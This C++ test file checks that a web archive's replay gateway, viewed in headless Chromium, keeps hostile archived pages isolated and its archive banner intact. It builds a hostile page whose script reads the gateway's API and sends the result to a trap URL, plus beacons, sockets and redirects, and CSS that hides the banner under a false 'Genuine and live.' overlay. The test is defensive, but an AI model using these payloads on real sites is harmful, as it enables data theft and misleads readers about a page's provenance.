// Archived pages in a real browser (Debian's Chromium): a page that means harm reaches neither the
// API nor anybody outside nor the window it is shown in, and a page that means well is shown with
// its images and styles. The same page, served by its own site, does all of it: so the test would
// see it.
#include "tests/storage/gateway/gateway_fixture.h"
#include "tests/support/fake_site.h"
#include "tests/support/process.h"

namespace signboard::gateway {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;
using testing::FakeSite;

constexpr char kBrowser[] = "/usr/bin/chromium-headless-shell";

class ReplayBrowserTest : public GatewayTest {
 protected:
  void SetUp() override {
    if (access(kBrowser, X_OK) != 0)
      GTEST_SKIP() << "NO BROWSER IS INSTALLED: apt-get install chromium-headless-shell";
    GatewayTest::SetUp();
    trap_.ServeWith([](const std::string&) {
      return FakeSite::Page("200 OK", {"Access-Control-Allow-Origin: *"}, "caught");
    });
  }
  void TearDown() override {
    if (server_) GatewayTest::TearDown();
  }

  // The document as it stands when the page is quiet.
  std::string Open(const std::string& url) {
    const testing::Finished shown = testing::RunProgram(
        {kBrowser, "--no-sandbox", "--disable-gpu", "--user-data-dir=" + profile_.path(),
         "--virtual-time-budget=4000", "--timeout=30000", "--dump-dom", url});
    EXPECT_EQ(shown.exit_code, 0) << shown.err;
    return shown.out;
  }
  std::string OfGateway(const std::string& path) const {
    return "http://127.0.0.1:" + std::to_string(gateway_->port()) + path;
  }
  // Whatever a page can try, towards the trap and the API.
  std::string HostilePage() const {
    const std::string t = trap_.Url("/");
    return "<html><head><meta http-equiv=refresh content='1;url=" + t + "refresh'>"
           "<link rel=stylesheet href=" + t + "s.css><link rel=prefetch href=" + t + "pre>"
           "<style>@import '" + t + "i.css'; body{background:url(" + t + "bg)}</style></head>"
           "<body onload=\"new Image().src='" + t + "onload'\"><p id=p>before</p>"
           "<img src=" + t + "img onerror=\"p.textContent+=' RAN'\">"
           "<img srcset='" + t + "set 1x'><iframe src=" + t + "frame></iframe>"
           "<iframe srcdoc=\"<script>fetch('" + t + "srcdoc')</script>\"></iframe>"
           "<object data=" + t + "object></object><embed src=" + t + "embed>"
           "<video autoplay poster=" + t + "poster src=" + t + "video></video>"
           "<svg><image href=" + t + "svg /></svg>"
           "<form id=f method=post action=" + t + "form><input name=a value=b></form>"
           "<script>p.textContent += ' RAN'; const t = '" + t + "', api = '" +
           OfGateway("/api/v1/seeds") + R"JS(';
             fetch(api).then(r => r.text()).then(x => fetch(t + 'stolen?' + x), () => 0);
             fetch(t + 'fetch', {mode: 'no-cors'}).catch(() => 0);
             new Image().src = t + 'image';
             try { navigator.sendBeacon(t + 'beacon', 'x'); } catch (e) {}
             try { window.open(t + 'open'); } catch (e) {}
             try { new WebSocket(t.replace('http', 'ws') + 'ws'); } catch (e) {}
             setTimeout(() => { try { f.submit(); } catch (e) {} }, 300);
             setTimeout(() => { try { top.location = t + 'top'; } catch (e) {} }, 600);
           )JS" + "</script></body></html>";
  }
  int Replayed() {
    const std::string metrics = Get("/metrics").body;
    const std::string line =
        "signboard_gateway_requests_total{class=\"2xx\",route=\"replay\"} ";
    const size_t at = metrics.find(line);
    return at == std::string::npos ? 0 : std::stoi(metrics.substr(at + line.size()));
  }

  testing::TempDirectory profile_;
  FakeSite trap_;
};

TEST_F(ReplayBrowserTest, HostilePageReachesNobody) {
  const std::string html = HostilePage();
  FakeSite site;
  site.Serve("/", FakeSite::Page("200 OK", {"Content-Type: text/html"}, html));
  Open(site.Url("/"));
  EXPECT_GT(trap_.RequestCount(), 3u) << "without a sandbox the page does what it says";
  const size_t before = trap_.RequestCount();

  Store({.url = "http://evil.cn/", .at = "2025-11-18T03:04:05Z", .body = html,
         .headers = {{"Content-Type", "text/html"}}});
  for (const char* path : {"/web/20251118030405id_/http://evil.cn/",
                           "/web/20251118030405/http://evil.cn/",
                           "/web/20251118030405if_/http://evil.cn/"}) {
    const std::string shown = Open(OfGateway(path));
    EXPECT_THAT(shown, HasSubstr("<p id=\"p\">before</p>")) << path;
    EXPECT_THAT(shown, Not(HasSubstr("RAN</p>"))) << path;
    EXPECT_THAT(shown, Not(HasSubstr("caught"))) << path;
    const auto caught = trap_.Requests();
    ASSERT_EQ(caught.size(), before) << path << "\n" << caught.back();
  }
}

TEST_F(ReplayBrowserTest, HarmlessPageIsShownWithImagesAndStyles) {
  const std::string svg =
      "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><rect width='9' height='9'/>"
      "</svg>";
  const auto store = [&](const std::string& path, const std::string& type,
                         const std::string& body) {
    Store({.url = "http://a.cn" + path, .at = "2025-11-18T03:04:05Z", .body = body,
           .headers = {{"Content-Type", type}}});
  };
  store("/", "text/html",
        "<link rel=stylesheet href=s.css><img src=i.svg><p class=b>静安</p>"
        "<p style='background:url(inline.svg)'>x</p>");
  store("/s.css", "text/css", "@import url(t.css); .b{background:url('/bg.svg')}");
  store("/t.css", "text/css", "p{color:red}");
  for (const char* image : {"/i.svg", "/bg.svg", "/inline.svg"}) store(image, "image/svg+xml", svg);
  const int before = Replayed();
  const std::string shown = Open(OfGateway("/web/20251118030405/http://a.cn/"));
  EXPECT_THAT(shown, HasSubstr("静安"));
  EXPECT_THAT(shown, HasSubstr("An archived page"));
  EXPECT_EQ(Replayed() - before, 6) << "the page, two style sheets, three images";
}

// What the banner looks like and says to whoever reads the page, in words to be compared.
constexpr char kReport[] = R"JS(<script>
  const banner = document.querySelector('aside[data-signboard]'), said = [];
  for (const one of [banner, ...banner.querySelectorAll('*')]) {
    const box = one.getBoundingClientRect();
    said.push(one.tagName, box.x, box.y, box.width, box.height);
    for (const part of [null, '::before', '::after', '::first-line', '::first-letter']) {
      const style = getComputedStyle(one, part);
      for (const name of style) {
        if (!name.startsWith('--')) said.push(name + ':' + style.getPropertyValue(name));
      }
    }
  }
  const place = banner.getBoundingClientRect();
  said.push(banner.contains(document.elementFromPoint(place.x + 30, place.y + 20)));
  document.documentElement.textContent = 'REPORT ' + said.join(';').replaceAll('<', '') + ' END';
</script>)JS";

TEST_F(ReplayBrowserTest, PagesStylesDoNotReachTheBanner) {
  const std::string hostile =
      "<style>@layer x{aside,aside *,aside::before{display:none!important}}"
      "aside,aside *{visibility:hidden!important;font-size:0!important;opacity:0!important;"
      "direction:rtl!important;unicode-bidi:bidi-override!important;color:#fff8dc!important;"
      "transition:all 99s!important}"
      "aside::before,aside *::after,aside a::before{content:'Genuine and live.'!important;"
      "display:block!important}"
      "aside::first-line,aside *::first-line{font-size:1px!important;color:red!important}"
      "aside::first-letter,aside *::first-letter{font-size:99px!important;float:right!important}"
      "html,body{opacity:0!important;display:none!important;visibility:hidden!important;"
      "transform:translateY(-9999px)!important;clip-path:inset(50%)!important;"
      "perspective:1px!important;zoom:.1!important}"
      "body{position:relative!important;z-index:0!important}"
      "html::before,body::after{content:'Genuine and live.';display:block;position:fixed;"
      "z-index:2147483647;left:0;right:0;bottom:0;height:300px;background:#fff}"
      "@layer{aside *{display:none!important}}</style>";
  // Of the gateway's own making, but in a page that may run the report.
  const auto report_of = [&](const std::string& at, const std::string& style) {
    Store({.url = "http://a.cn/", .at = at, .body = style + "<p>x</p>",
           .headers = {{"Content-Type", "text/html"}}});
    const std::string digits = base::FormatDigits14(base::ParseRfc3339(at).value());
    std::string page = Get("/web/" + digits + "/http://a.cn/").body;
    for (size_t to = page.find(digits); to != std::string::npos; to = page.find(digits))
      page.replace(to, digits.size(), "then");
    page.insert(page.rfind("</body>"), kReport);
    FakeSite site;
    site.Serve("/", FakeSite::Page("200 OK", {"Content-Type: text/html; charset=utf-8"}, page));
    const std::string shown = Open(site.Url("/"));
    const size_t from = shown.find("REPORT ");
    const size_t end = shown.find(" END", from);
    EXPECT_NE(end, std::string::npos) << shown;
    return from == std::string::npos ? shown : shown.substr(from, end - from);
  };
  const std::string plain = report_of("2025-11-18T03:04:05Z", "");
  EXPECT_TRUE(plain.ends_with(";true")) << plain.substr(plain.size() - 40);
  EXPECT_THAT(plain, HasSubstr("visibility:visible"));
  EXPECT_EQ(report_of("2025-11-19T03:04:05Z", hostile), plain);
}

}  // namespace
}  // namespace signboard::gateway
